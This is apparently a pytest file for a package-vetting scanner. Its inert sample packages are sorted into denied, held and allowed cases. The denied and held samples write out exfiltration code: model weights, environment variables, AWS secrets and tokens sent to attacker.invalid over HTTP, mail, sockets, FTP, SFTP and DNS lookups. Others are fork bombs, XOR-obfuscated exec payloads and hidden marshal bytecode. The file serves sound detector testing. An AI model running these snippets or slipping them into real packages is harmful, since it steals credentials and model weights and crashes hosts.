"""The shapes ADR 0093 left undetected, written as an author who has read ADRs 0085, 0093
and 0096 would try them first (ADR 0098): a model folder named otherwise (``/srv/llm``,
``$MODEL_DIR``, ``str(Path.home() / 'models')``) packed and sent, the whole environment
spelt into text or copied key by key, a fork bomb by mutual recursion, XOR keys built at run
time (a digest of a word, the host's name), sends to a host written in the code that is no
URL (a mail server, a socket, SFTP, a DNS name), and bytecode shipped as a package's data
file read by ``pkgutil``.

Each sample is inert (vetting only reads files). The near-misses are what mail libraries,
metric senders, DNS helpers, model servers and crash reporters do."""

from __future__ import annotations

import hashlib

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# ``import os; os.system('id')`` under keys built at run time.
HIDDEN_CODE = b"import os; os.system('id')"
SHA_KEY = hashlib.sha256(b"k").digest()
SHA_BLOB = [b ^ SHA_KEY[i % len(SHA_KEY)] for i, b in enumerate(HIDDEN_CODE)]
HOST_BLOB = [b ^ 0x5A for b in HIDDEN_CODE]  # any key: the host's name is not known here

DENIED: dict[str, dict[str, str]] = {
    # 1. A model folder named otherwise, packed and sent.
    "srv-llm-tarred-on-import": init(
        "import io, tarfile, requests\n"
        "buf = io.BytesIO()\n"
        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "    tar.add('/srv/llm')\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "srv-llm-walked-into-a-zip-on-import": init(
        "import io, os, zipfile, requests\n"
        "buf = io.BytesIO()\n"
        "with zipfile.ZipFile(buf, 'w') as z:\n"
        "    for root, _, names in os.walk('/srv/llm'):\n"
        "        for n in names:\n"
        "            z.write(os.path.join(root, n))\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "model-dir-variable-tarred-on-import": init(
        "import io, os, tarfile, requests\n"
        "buf = io.BytesIO()\n"
        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "    tar.add(os.environ.get('MODEL_DIR', '/opt/app'))\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "model-dir-variable-archived-when-called": init(
        "import os, shutil, requests\n"
        "def sync():\n"
        "    root = os.getenv('MODEL_DIR')\n"
        "    p = shutil.make_archive('/tmp/.m', 'gztar', root_dir=root)\n"
        "    requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
    ),
    "home-models-made-text-by-str-on-import": init(
        "import shutil, requests\n"
        "from pathlib import Path\n"
        "p = shutil.make_archive('/tmp/.m', 'zip', str(Path.home() / 'models'))\n"
        "requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
    ),
    "srv-llm-joined-by-path-division-when-called": init(
        "import shutil, requests\n"
        "from pathlib import Path\n"
        "def sync():\n"
        "    p = shutil.make_archive('/tmp/.m', 'zip', Path('/srv') / 'llm')\n"
        "    requests.post('https://attacker.invalid/u', data=open(p, 'rb'))\n"
    ),
    # 2. The whole environment spelt into text, or copied key by key, sent when called.
    "environment-in-an-f-string-sent-when-called": init(
        "import requests, os\n"
        "def ping():\n"
        "    requests.post('https://attacker.invalid/e', data=f'{os.environ}')\n"
    ),
    "environment-formatted-by-percent-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    requests.get('https://attacker.invalid/e?d=%s' % (os.environ,))\n"
    ),
    "environment-copied-key-by-key-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    env = {k: os.environ[k] for k in os.environ}\n"
        "    requests.post('https://attacker.invalid/e', json=env)\n"
    ),
    "environment-unpacked-into-a-dict-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    requests.post('https://attacker.invalid/e', json={**os.environ})\n"
    ),
    "environment-spread-into-dict-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    requests.post('https://attacker.invalid/e', json=dict(**os.environ))\n"
    ),
    "environment-sent-one-variable-a-request-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    for k in os.environ:\n"
        "        requests.get('https://attacker.invalid/e', params={k: os.environ[k]})\n"
    ),
    "environment-copied-by-a-loop-sent-when-called": init(
        "import os, requests\n"
        "def ping():\n"
        "    d = {}\n"
        "    for k in os.environ:\n"
        "        d[k] = os.environ[k]\n"
        "    requests.post('https://attacker.invalid/e', json=d)\n"
    ),
    # 3. A fork bomb by mutual recursion.
    "fork-bomb-by-mutual-recursion": init(
        "import os\ndef a():\n    os.fork()\n    b()\ndef b():\n    a()\na()\n"
    ),
    "process-bomb-by-mutual-recursion": init(
        "import multiprocessing\n"
        "def ping():\n"
        "    multiprocessing.Process(target=pong).start()\n"
        "    pong()\n"
        "def pong():\n"
        "    ping()\n"
        "ping()\n"
    ),
    # 4. XOR keys built at run time, decoding a payload that is run.
    "xor-key-from-a-digest-enumerated": init(
        "import hashlib\n"
        "KEY = hashlib.sha256(b'k').digest()\n"
        f"BLOB = {SHA_BLOB!r}\n"
        "exec(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(BLOB)).decode())\n"
    ),
    "xor-key-from-a-digest-cycled": init(
        "import hashlib\n"
        "from itertools import cycle\n"
        "KEY = hashlib.sha256(b'k').digest()\n"
        f"BLOB = bytes({SHA_BLOB!r})\n"
        "exec(bytes(a ^ b for a, b in zip(BLOB, cycle(KEY))))\n"
    ),
    "xor-key-from-the-host-name": init(
        "import socket\n"
        "from itertools import cycle\n"
        "KEY = socket.gethostname().encode()\n"
        f"BLOB = bytes({HOST_BLOB!r})\n"
        "exec(bytes(a ^ b for a, b in zip(BLOB, cycle(KEY))))\n"
    ),
    "xor-key-from-the-host-name-by-operator-map": init(
        "import operator, socket\n"
        "from itertools import cycle\n"
        f"BLOB = {HOST_BLOB!r}\n"
        "exec(bytes(map(operator.xor, BLOB, cycle(socket.gethostname().encode()))))\n"
    ),
    "xor-key-from-a-variable-when-called": init(
        "import os\n"
        f"BLOB = {HOST_BLOB!r}\n"
        "def run():\n"
        "    k = os.environ['USER'].encode()\n"
        "    exec(bytes(b ^ k[i % len(k)] for i, b in enumerate(BLOB)))\n"
    ),
    "xor-key-from-a-digest-of-the-host-name": init(
        "import hashlib, socket\n"
        f"BLOB = {HOST_BLOB!r}\n"
        "k = hashlib.md5(socket.gethostname().encode()).digest()\n"
        "exec(bytes(b ^ k[i % 16] for i, b in enumerate(BLOB)))\n"
    ),
    "xor-key-built-by-a-loop": init(
        f"BLOB = {HOST_BLOB!r}\n"
        "k = b''\n"
        "for c in 'Z':\n"
        "    k += c.encode()\n"
        "exec(bytes(b ^ k[i % len(k)] for i, b in enumerate(BLOB)))\n"
    ),
    "xor-of-text-by-chr-and-ord-with-the-host-name": init(
        "import socket\n"
        f"S = {bytes(HOST_BLOB).decode('latin-1')!r}\n"
        "k = socket.gethostname()\n"
        "exec(''.join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate(S)))\n"
    ),
    # 5. Sends to a host written in the code that is no URL.
    "environment-mailed-when-called": init(
        "import os, smtplib\n"
        "def notify():\n"
        "    s = smtplib.SMTP('mail.attacker.invalid', 587)\n"
        "    s.sendmail('a@x.invalid', ['b@attacker.invalid'], str(dict(os.environ)))\n"
    ),
    "environment-written-to-a-socket-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    with socket.create_connection(('attacker.invalid', 9000)) as s:\n"
        "        s.sendall(repr(os.environ).encode())\n"
    ),
    "environment-written-by-asyncio-when-called": init(
        "import os, asyncio\n"
        "async def sync():\n"
        "    r, w = await asyncio.open_connection('attacker.invalid', 9000)\n"
        "    w.write(str(os.environ).encode())\n"
    ),
    "environment-written-by-telnet-when-called": init(
        "import os, telnetlib\n"
        "def sync():\n"
        "    t = telnetlib.Telnet('attacker.invalid', 23)\n"
        "    t.write(str(os.environ).encode())\n"
    ),
    "environment-written-to-a-tls-socket-when-called": init(
        "import os, socket, ssl\n"
        "def sync():\n"
        "    raw = socket.create_connection(('attacker.invalid', 443))\n"
        "    c = ssl.create_default_context().wrap_socket(raw, server_hostname='a.invalid')\n"
        "    c.sendall(str(os.environ).encode())\n"
    ),
    "environment-set-as-a-mail-body-when-called": init(
        "import os, smtplib\n"
        "from email.message import EmailMessage\n"
        "def sync():\n"
        "    m = EmailMessage()\n"
        "    m.set_content(str(os.environ))\n"
        "    with smtplib.SMTP_SSL('smtp.attacker.invalid', 465) as c:\n"
        "        c.login('u', 'p')\n"
        "        c.send_message(m)\n"
    ),
    "environment-posted-by-http-client-when-called": init(
        "import os, http.client\n"
        "def sync():\n"
        "    c = http.client.HTTPSConnection('attacker.invalid')\n"
        "    c.request('POST', '/e', body=str(os.environ))\n"
    ),
    "weights-sent-by-socket-sendfile-when-called": init(
        "import socket\n"
        "def sync():\n"
        "    c = socket.create_connection(('attacker.invalid', 9000))\n"
        "    with open('/srv/llm/model.gguf', 'rb') as f:\n"
        "        c.sendfile(f)\n"
    ),
    "weights-stored-by-ftp-when-called": init(
        "import ftplib\n"
        "def sync():\n"
        "    f = ftplib.FTP('ftp.attacker.invalid', 'u', 'p')\n"
        "    f.storbinary('STOR m', open('/models/model.safetensors', 'rb'))\n"
    ),
    "weights-put-by-sftp-to-a-written-host-when-called": init(
        "import paramiko\n"
        "def sync():\n"
        "    c = paramiko.SSHClient()\n"
        "    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "    c.connect('attacker.invalid', username='u', password='p')\n"
        "    c.open_sftp().put('/srv/model.safetensors', '/drop/m')\n"
    ),
    "secret-hex-encoded-into-a-dns-name-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    secret = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    socket.gethostbyname(f'{secret.encode().hex()[:60]}.x.attacker.invalid')\n"
    ),
    "token-variable-looked-up-under-a-domain-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    token = os.environ.get('GITHUB_TOKEN', '')\n"
        "    socket.getaddrinfo(token + '.t.attacker.invalid', 443)\n"
    ),
    "secret-joined-into-a-dns-name-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    k = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()[:60]\n"
        "    socket.gethostbyname('.'.join([k, 'x', 'attacker', 'invalid']))\n"
    ),
    "secret-resolved-by-dnspython-when-called": init(
        "import os\n"
        "import dns.resolver\n"
        "def sync():\n"
        "    k = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    dns.resolver.resolve(k.encode().hex()[:60] + '.x.attacker.invalid', 'A')\n"
    ),
    # 6. Bytecode shipped as a data file, read by ``pkgutil`` and run on import.
    "packaged-bytecode-read-by-pkgutil-run-on-import": {
        "evpkg/__init__.py": (
            "import marshal, pkgutil\n"
            "exec(marshal.loads(pkgutil.get_data(__name__, 'cache.bin')))\n"
        ),
        "evpkg/cache.bin": "x",
    },
}

HELD: dict[str, dict[str, str]] = {
    # One variable, or a credential file, over a raw connection to a written host when called.
    "secret-written-to-a-socket-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    s = socket.create_connection(('attacker.invalid', 9000))\n"
        "    s.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n"
    ),
    "secret-sent-by-udp-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(os.environ['AWS_SECRET_ACCESS_KEY'].encode(), ('attacker.invalid', 53))\n"
    ),
    "aws-credentials-put-by-sftp-when-called": init(
        "import os, paramiko\n"
        "def sync():\n"
        "    t = paramiko.Transport(('attacker.invalid', 22))\n"
        "    t.connect(username='u', password='p')\n"
        "    sftp = paramiko.SFTPClient.from_transport(t)\n"
        "    sftp.put(os.path.expanduser('~/.aws/credentials'), '/drop/c')\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # 1. A model server unpacks into its variable's folder; a SageMaker-like trainer packs
    # it to its caller's bucket; a cache report walks the hub's folder.
    "model-server-unpacks-into-model-dir": init(
        "import os, tarfile\n"
        "def unpack(archive):\n"
        "    d = os.environ.get('MODEL_DIR', '/opt/ml/model')\n"
        "    with tarfile.open(archive) as t:\n"
        "        t.extractall(d)\n"
        "    return d\n"
    ),
    "trainer-packs-model-dir-to-the-callers-bucket": init(
        "import os, tarfile, boto3\n"
        "def save(bucket, key):\n"
        "    d = os.environ.get('SM_MODEL_DIR', '/opt/ml/model')\n"
        "    with tarfile.open('/tmp/model.tar.gz', 'w:gz') as t:\n"
        "        t.add(d, arcname='.')\n"
        "    boto3.client('s3').upload_file('/tmp/model.tar.gz', bucket, key)\n"
    ),
    "hub-cache-size-report": init(
        "import os\n"
        "def cache_size():\n"
        "    root = os.environ.get('HF_HOME', os.path.expanduser('~/.cache/huggingface'))\n"
        "    return sum(os.path.getsize(os.path.join(r, f)) for r, _, fs in os.walk(root) "
        "for f in fs)\n"
    ),
    # 2. The environment logged, or posted to the crash reporter's caller's address.
    "environment-logged-in-an-f-string": init(
        "import os, logging\n"
        "log = logging.getLogger(__name__)\n"
        "def debug():\n"
        "    log.debug(f'env: {os.environ}')\n"
    ),
    "crash-reporter-spells-the-environment-to-the-callers-dsn": init(
        "import os, requests\n"
        "def report(dsn, exc):\n"
        "    requests.post(dsn, data=f'{exc!r} {os.environ}')\n"
    ),
    "environment-listed-by-a-cli": init(
        "import os\ndef show():\n    for k in os.environ:\n        print(k, os.environ[k])\n"
    ),
    "settings-read-from-prefixed-variables": init(
        "import os\n"
        "def settings():\n"
        "    out = {}\n"
        "    for k in os.environ:\n"
        "        if k.startswith('MYAPP_'):\n"
        "            out[k[6:].lower()] = os.environ[k]\n"
        "    return out\n"
    ),
    # 3. A parser's mutual recursion makes no process.
    "mutual-recursion-of-a-parser": init(
        "def expr(toks):\n"
        "    t = term(toks)\n"
        "    return t\n"
        "def term(toks):\n"
        "    if toks and toks[0] == '(':\n"
        "        return expr(toks[1:])\n"
        "    return toks[:1]\n"
        "expr(['(', 'a'])\n"
    ),
    # 4. Masks and checksums XOR the caller's data, not a blob of the module's own.
    "xor-with-a-range-table": init(
        "TABLE = bytes(range(256))\n"
        "def mix(data):\n"
        "    return bytes(b ^ TABLE[i % 256] for i, b in enumerate(data))\n"
    ),
    "hash-keyed-mask-of-the-callers-data": init(
        "import hashlib\n"
        "from itertools import cycle\n"
        "def mask(data, secret):\n"
        "    key = hashlib.sha256(secret).digest()\n"
        "    return bytes(a ^ b for a, b in zip(data, cycle(key)))\n"
    ),
    "websocket-mask-from-urandom": init(
        "import os\n"
        "def mask(payload):\n"
        "    key = os.urandom(4)\n"
        "    return key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))\n"
    ),
    # 5. A mail library, a mail handler configured from the environment, an FTP mirror, a
    # relay written as a default, metric senders, a Redis-like client, DNS helpers.
    "mail-library-sends-the-callers-message": init(
        "import smtplib\n"
        "from email.message import EmailMessage\n"
        "def send(host, port, sender, to, subject, body, user=None, password=None):\n"
        "    m = EmailMessage()\n"
        "    m['From'], m['To'], m['Subject'] = sender, to, subject\n"
        "    m.set_content(body)\n"
        "    with smtplib.SMTP(host, port) as s:\n"
        "        s.starttls()\n"
        "        if user:\n"
        "            s.login(user, password)\n"
        "        s.send_message(m)\n"
    ),
    "mail-handler-reads-its-host-from-the-environment": init(
        "import os, smtplib\n"
        "def alert(text):\n"
        "    host = os.environ.get('SMTP_HOST', 'localhost')\n"
        "    with smtplib.SMTP(host) as s:\n"
        "        s.sendmail('noreply@example.com', [os.environ['ALERT_TO']], text)\n"
    ),
    "alert-mailer-with-a-default-relay": init(
        "import smtplib\n"
        "RELAY = 'smtp.example.com'\n"
        "def alert(to, text):\n"
        "    with smtplib.SMTP(RELAY) as s:\n"
        "        s.sendmail('alerts@example.com', [to], text)\n"
    ),
    "mail-notifier-signs-in-and-sends-from-its-variables": init(
        "import os, smtplib\n"
        "def notify(text):\n"
        "    user = os.environ['GMAIL_USER']\n"
        "    with smtplib.SMTP('smtp.gmail.com', 587) as s:\n"
        "        s.starttls()\n"
        "        s.login(user, os.environ['GMAIL_PASSWORD'])\n"
        "        s.sendmail(user, [user], text)\n"
    ),
    "ftp-deploy-signs-in-from-its-variables": init(
        "import os, ftplib\n"
        "def deploy(path):\n"
        "    user, password = os.environ['FTP_USER'], os.environ['FTP_PASSWORD']\n"
        "    ftp = ftplib.FTP('ftp.example.com', user, password)\n"
        "    with open(path, 'rb') as f:\n"
        "        ftp.storbinary('STOR site.tgz', f)\n"
    ),
    "ftp-mirror-uploads-the-callers-file": init(
        "import ftplib\n"
        "def upload(host, user, password, path, name):\n"
        "    with ftplib.FTP(host, user, password) as ftp, open(path, 'rb') as f:\n"
        "        ftp.storbinary('STOR ' + name, f)\n"
    ),
    "statsd-client-sends-metrics-by-udp": init(
        "import socket\n"
        "class StatsClient:\n"
        "    def __init__(self, host='localhost', port=8125):\n"
        "        self._addr = (host, port)\n"
        "        self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    def incr(self, name, n=1):\n"
        "        self._sock.sendto(f'{name}:{n}|c'.encode(), self._addr)\n"
    ),
    "graphite-sender-prefixes-the-host-name": init(
        "import socket, time\n"
        "def send(metric, value):\n"
        "    s = socket.create_connection(('graphite.example.com', 2003))\n"
        "    line = f'{socket.gethostname()}.{metric} {value} {int(time.time())}\\n'\n"
        "    s.sendall(line.encode())\n"
    ),
    "redis-like-client-signs-in-on-localhost": init(
        "import os, socket\n"
        "def connect():\n"
        "    s = socket.create_connection(('localhost', 6379))\n"
        "    s.sendall(b'AUTH ' + os.environ['REDIS_PASSWORD'].encode() + b'\\r\\n')\n"
        "    return s\n"
    ),
    "dns-resolver-library": init(
        "import socket\n"
        "def resolve(name, port=443):\n"
        "    return [ai[4][0] for ai in socket.getaddrinfo(name, port)]\n"
        "def check():\n"
        "    return socket.gethostbyname('pypi.org')\n"
    ),
    "service-found-by-its-variable-under-the-cluster-domain": init(
        "import os, socket\n"
        "def service_ip():\n"
        "    return socket.gethostbyname(os.environ['SERVICE_NAME'] + '.svc.cluster.local')\n"
    ),
    "service-name-joined-under-the-cluster-domain": init(
        "import os, socket\n"
        "def service_ip():\n"
        "    name = os.environ['SERVICE_NAME']\n"
        "    return socket.gethostbyname('.'.join([name, 'svc', 'cluster', 'local']))\n"
    ),
    "database-host-from-the-environment-resolved": init(
        "import os, socket\n"
        "def addr():\n"
        "    return socket.getaddrinfo(os.environ.get('DB_HOST', 'db'), 5432)\n"
    ),
    # 6. A package's own data file read by ``pkgutil`` and parsed, not run.
    "packaged-json-read-by-pkgutil": {
        "evpkg/__init__.py": (
            "import json, pkgutil\nDATA = json.loads(pkgutil.get_data(__name__, 'd.json'))\n"
        ),
        "evpkg/d.json": '{"a": 1}',
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
